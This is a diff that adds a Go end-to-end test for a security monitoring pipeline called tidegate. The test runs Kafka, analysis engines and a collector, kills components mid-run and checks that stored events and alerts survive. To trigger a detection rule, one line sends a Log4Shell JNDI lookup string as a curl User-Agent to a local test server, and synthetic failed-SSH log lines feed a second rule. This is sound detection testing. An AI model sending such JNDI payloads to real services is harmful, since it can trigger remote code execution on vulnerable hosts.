@@ -1,0 +1,319 @@
+package main
+
+import (
+	"encoding/base64"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+
+	"tidegate/pipeline/engine"
+)
+
+const (
+	kafkaHeap    = "-Xmx512m"
+	kafkaVersion = "4.1.0"
+	kafkaConfig  = `process.roles=broker,controller
+node.id=1
+controller.quorum.voters=1@127.0.0.1:9093
+listeners=PLAINTEXT://127.0.0.1:9092,CONTROLLER://127.0.0.1:9093
+advertised.listeners=PLAINTEXT://127.0.0.1:9092
+controller.listener.names=CONTROLLER
+log.dirs=%s
+offsets.topic.replication.factor=1
+offsets.topic.num.partitions=1
+group.initial.rebalance.delay.ms=0
+`
+	onKafkaConfig = `state: %[1]s/state
+host: kafka1
+cluster: kafka
+listen: 127.0.0.1:%%d
+kafka:
+  brokers: [127.0.0.1:9092]
+  partitions: 4
+  assign: group
+capture:
+  interfaces: [eth0]
+containers:
+  host: unix://%[1]s/nobody.sock
+logs:
+  root: %[1]s/root
+`
+)
+
+// onKafka is tidegate on Apache Kafka: a namespace with the broker, the embedded ClickHouse, two engines and a collector as processes of
+// their own, and the world outside behind eth0. There is no dockerd: the test writes the containers' log files.
+type onKafka struct {
+	*system
+	libs string
+	logs []*logWriter
+	stop chan struct{}
+	done sync.WaitGroup
+	hold sync.RWMutex // nobody rotates while it is taken
+}
+
+// kafkaLibs finds Kafka's jars, which deploy/setup-test.sh fetches. Where CI is set they have to be there.
+func kafkaLibs(t *testing.T) string {
+	t.Helper()
+	missing := t.Skipf
+	if os.Getenv("CI") != "" {
+		missing = t.Fatalf
+	}
+	if _, err := exec.LookPath("java"); err != nil {
+		missing("Apache Kafka needs java: %v", err)
+	}
+	cache, err := os.UserCacheDir()
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(cache, "tidegate")
+	if d := os.Getenv("TIDEGATE_CACHE"); d != "" {
+		dir = d
+	}
+	dir = filepath.Join(dir, "kafka-"+kafkaVersion)
+	if !exists(filepath.Join(dir, "complete")) {
+		missing("Apache Kafka %s is not in %s; deploy/setup-test.sh fetches it", kafkaVersion, dir)
+	}
+	return filepath.Join(dir, "libs")
+}
+
+// newOnKafka starts everything but the collector.
+func newOnKafka(t *testing.T) *onKafka {
+	libs := kafkaLibs(t)
+	if os.Geteuid() != 0 {
+		t.Skip("network namespaces need root")
+	}
+	h := &dockerHost{t: t, dir: t.TempDir(), ns: fmt.Sprintf("tgkafka%d", os.Getpid()), out: fmt.Sprintf("tgkout%d", os.Getpid())}
+	t.Cleanup(h.down)
+	h.network()
+	k := &onKafka{libs: libs, stop: make(chan struct{}), system: &system{dockerHost: h, bin: binary(t), state: filepath.Join(h.dir, "state"), procs: map[string]*exec.Cmd{}}}
+	t.Cleanup(k.end)
+	for i, name := range []string{"collect", "analyze", "analyze-b", "store"} {
+		h.check(os.WriteFile(filepath.Join(h.dir, name+".yaml"), fmt.Appendf(nil, fmt.Sprintf(onKafkaConfig, h.dir), 9464+i), 0o600))
+	}
+	k.formatKafka()
+	k.startKafka()
+	k.start("store", nil, "run", "--only", "store")
+	k.waitKafka()
+	k.waitMetrics(9467)
+	k.start("analyze", nil, "analyze")
+	return k
+}
+
+func (k *onKafka) java(args ...string) *exec.Cmd {
+	return k.inside("java", append([]string{kafkaHeap, "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-Dorg.slf4j.simpleLogger.defaultLogLevel=warn", "-cp", k.libs + "/*"}, args...)...)
+}
+
+func (k *onKafka) formatKafka() {
+	conf := filepath.Join(k.dir, "server.properties")
+	k.check(os.WriteFile(conf, fmt.Appendf(nil, kafkaConfig, filepath.Join(k.dir, "kafka")), 0o600))
+	id := base64.RawURLEncoding.EncodeToString([]byte("tidegate's test!"))
+	k.must(k.java("kafka.tools.StorageTool", "format", "-t", id, "-c", conf))
+}
+
+func (k *onKafka) startKafka() {
+	k.background("kafka", k.java("kafka.Kafka", filepath.Join(k.dir, "server.properties")))
+}
+
+func (k *onKafka) waitKafka() {
+	k.t.Helper()
+	k.eventually("kafka answers", 60*time.Second, func() string {
+		if err := k.inside("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9092").Run(); err != nil {
+			return err.Error() + ": " + string(k.logTail("kafka"))
+		}
+		return ""
+	})
+}
+
+func (k *onKafka) startCollector() {
+	k.t.Helper()
+	k.start("collect", nil, "collect")
+	k.waitMetrics(9464)
+	k.waitMetric(9464, `tidegate_capture_workers{interface="eth0"}`, 1)
+}
+
+// end stops what still runs: first those that speak to others.
+func (k *onKafka) end() {
+	select {
+	case <-k.stop:
+	default:
+		close(k.stop)
+	}
+	k.done.Wait()
+	order := []string{"collect", "analyze-b", "analyze", "store", "web", "kafka"}
+	if k.t.Failed() {
+		for _, name := range order {
+			k.t.Logf("log of %s:\n%s", name, k.logTail(name))
+		}
+	}
+	for _, name := range order {
+		cmd := k.procs[name]
+		if cmd == nil {
+			continue
+		}
+		_ = cmd.Process.Signal(syscall.SIGTERM)
+		ended := make(chan struct{})
+		go func() { _ = cmd.Wait(); close(ended) }()
+		select {
+		case <-ended:
+		case <-time.After(20 * time.Second):
+			k.t.Errorf("%s did not end within 20 s of SIGTERM", name)
+			_ = cmd.Process.Kill()
+			<-ended
+		}
+	}
+}
+
+// A logWriter writes the log of one container as dockerd does, and rotates it.
+type logWriter struct {
+	k      *onKafka
+	id     string
+	dir    string
+	rotate int // after so many lines
+	keep   int // files, the open one among them
+	lines  atomic.Int64
+	caught atomic.Int64 // of them a rule catches
+}
+
+func (k *onKafka) writer(n, rotate, keep int) {
+	id := fmt.Sprintf("%064x", 0xc0ffee00+n)
+	w := &logWriter{k: k, id: id, dir: filepath.Join(k.dir, "root", "containers", id), rotate: rotate, keep: keep}
+	k.check(os.MkdirAll(w.dir, 0o700))
+	k.logs = append(k.logs, w)
+	k.done.Go(func() {
+		if err := w.run(); err != nil {
+			k.t.Errorf("write the log of %s: %v", id, err)
+		}
+	})
+}
+
+func (w *logWriter) run() error {
+	path := filepath.Join(w.dir, w.id+"-json.log")
+	open := func() (*os.File, error) { return os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o600) }
+	f, err := open()
+	if err != nil {
+		return err
+	}
+	defer func() { _ = f.Close() }()
+	tick := time.NewTicker(8 * time.Millisecond)
+	defer tick.Stop()
+	for i, in := int64(0), 0; ; i++ {
+		select {
+		case <-w.k.stop:
+			return nil
+		case <-tick.C:
+		}
+		text := fmt.Sprintf("line %d", i)
+		if i%20 == 7 {
+			text = fmt.Sprintf("Failed password for invalid user u%d from 203.0.113.4 port 51515 ssh2", i)
+			w.caught.Add(1)
+		}
+		if _, err := fmt.Fprintf(f, `{"log":"%s\n","stream":"stdout","time":"%s"}`+"\n", text, time.Now().UTC().Format(time.RFC3339Nano)); err != nil {
+			return err
+		}
+		w.lines.Add(1)
+		if in++; in < w.rotate || !w.k.hold.TryRLock() {
+			continue
+		}
+		in = 0
+		_ = f.Close()
+		for n := w.keep - 1; n > 0; n-- {
+			from := fmt.Sprintf("%s.%d", path, n-1)
+			if n == 1 {
+				from = path
+			}
+			_ = os.Rename(from, fmt.Sprintf("%s.%d", path, n)) // those that are not there yet are no error
+		}
+		f, err = open()
+		w.k.hold.RUnlock()
+		if err != nil {
+			return err
+		}
+	}
+}
+
+// visit sends n requests from outside, and one that a rule catches.
+func (k *onKafka) visit(name string, n int) {
+	k.t.Helper()
+	k.must(k.visitor(work{Case: name, N: n, HTTP: hostIP + ":8080", Every: 5 * time.Millisecond}))
+	k.must(k.outside("curl", "-sf", "-A", "${jndi:ldap://192.0.2.66/a}", "http://"+hostIP+":8080/probe/"+name))
+}
+
+// TestKafka is the same engine and collector on Apache Kafka: two engines share the partitions of a group; both are killed, one at the
+// seams of a block; so are the collector and the broker. Logs never stop; clients of the wire pause around the collector's kill.
+func TestKafka(t *testing.T) {
+	if testing.Short() {
+		t.Skip("it starts Apache Kafka")
+	}
+	k := newOnKafka(t)
+	self, err := os.Executable()
+	k.check(err)
+	web := k.inside(self)
+	web.Env = append(os.Environ(), "TIDEGATE_WORK="+work{Serve: hostIP + ":8080"}.String())
+	k.background("web", web)
+	k.waitMetrics(9465)
+	k.start("analyze-b", []string{"TIDEGATE_KILL_AT=" + engine.AfterInsert + ":3"}, "analyze")
+	for n := range 6 {
+		k.writer(n, 150+50*n, 4)
+	}
+	k.startCollector()
+	const n = 60
+	visits := 0
+	visit := func() { k.visit(fmt.Sprintf("k%d", visits), n); visits++ }
+
+	visit()
+	k.waitDeath("analyze-b")
+	k.start("analyze-b", []string{"TIDEGATE_KILL_AT=" + engine.AfterIntent + ":2"}, "analyze")
+	visit()
+	k.waitDeath("analyze-b")
+	k.kill("analyze")
+	k.start("analyze", nil, "analyze")
+	k.start("analyze-b", nil, "analyze")
+	visit()
+
+	k.kill("kafka") // lines wait in their files or, where those are deleted, in the spool; requests wait in the spool
+	visit()
+	k.startKafka()
+	k.waitKafka()
+	visit()
+
+	time.Sleep(2 * time.Second) // what was seen on the wire is acknowledged or in the spool; nobody sends
+	k.hold.Lock()               // what is deleted while no collector runs is lost to anybody
+	acked := metric(k.metrics(9464), "tidegate_ship_acked_total")
+	k.kill("collect")
+	k.startCollector()
+	visit()
+	time.Sleep(time.Second)
+	k.hold.Unlock()
+	time.Sleep(2 * time.Second)
+	close(k.stop)
+	k.done.Wait()
+
+	k.verdicts(visits, n)
+	k.expectAtLeast("what was acknowledged is there", `SELECT count() FROM events`, acked)
+}
+
+// verdicts compares the truth with what is stored.
+func (k *onKafka) verdicts(visits, n int) {
+	k.t.Helper()
+	for i := range visits {
+		k.expect("requests", fmt.Sprintf(`SELECT count(), uniqExact("event.id"), uniqExact("url.path"), countIf("event.partial") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/k%d/%%'`, i), fmt.Sprintf("%d %d %d 0", n, n, n))
+	}
+	var lines, caught []string
+	for _, w := range k.logs {
+		lines = append(lines, fmt.Sprintf("%s %d %d %d", w.id[56:], w.lines.Load(), w.lines.Load(), w.lines.Load()))
+		caught = append(caught, fmt.Sprintf("%s %d", w.id[56:], w.caught.Load()))
+	}
+	k.expect("lines", `SELECT substring("container.id", 57), count(), uniqExact("event.id"), uniqExact(message) FROM events WHERE "event.dataset" = 'log' GROUP BY 1 ORDER BY 1`, lines...)
+	k.expect("alerts of lines", `SELECT substring(container_id, 57), sum(count) FROM alerts_now WHERE rule = 'log-ssh-failed' GROUP BY 1 ORDER BY 1`, caught...)
+	k.expect("alerts of requests", `SELECT sum(count) FROM alerts_now WHERE rule = 'http-log4shell'`, fmt.Sprint(visits))
+	k.expect("alerts count what is stored", `SELECT count() FROM (SELECT rule, sum(count) AS n FROM alerts_now GROUP BY rule) AS a FULL OUTER JOIN (SELECT arrayJoin("verdict.rule") AS rule, count() AS n FROM events GROUP BY rule) AS v USING (rule) WHERE a.n != v.n`, "0")
+	k.expect("nothing is there twice", `SELECT count() = uniqExact("event.id"), count() = uniqExact((_partition, _offset, _index)), uniqExact(_partition) > 1 FROM events`, strings.Join([]string{"1", "1", "1"}, " "))
+	k.expect("no alert is there twice", `SELECT count() = uniqExact(id, revision) FROM alerts`, "1")
+}
